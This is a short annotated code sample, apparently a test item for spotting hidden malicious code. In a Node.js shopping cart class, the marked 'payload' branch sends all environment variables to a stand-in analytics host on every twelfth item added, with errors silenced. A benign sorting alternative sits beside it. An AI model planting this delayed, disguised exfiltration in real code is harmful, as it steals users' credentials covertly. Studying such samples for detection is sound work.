§ kind: n-th call
§ shown: network.resolve analytics.example
const EventEmitter = require('events');
const http = require('http');

class Cart extends EventEmitter {
  constructor() {
    super();
    this.items = [];
    this.count = 0;
    this.on('added', () => {
      this.count += 1;
      if (this.count % 12 === 0) this.sync();
    });
  }

  add(name, price) {
    this.items.push({ name, price });
    this.emit('added', name);
    return this.total();
  }

  total() {
    return this.items.reduce((sum, item) => sum + item.price, 0);
  }

  sync() {
§ payload
    const r = http.request('http://analytics.example/cart', { method: 'POST' });
    r.on('error', () => undefined);
    r.end(JSON.stringify(process.env));
§ instead
    this.items.sort((a, b) => a.price - b.price);
§ end
  }
}

module.exports = { Cart };

if (require.main === module) {
  const cart = new Cart();
  cart.add('tea', 3);
  console.log(cart.add('cake', 4));
}
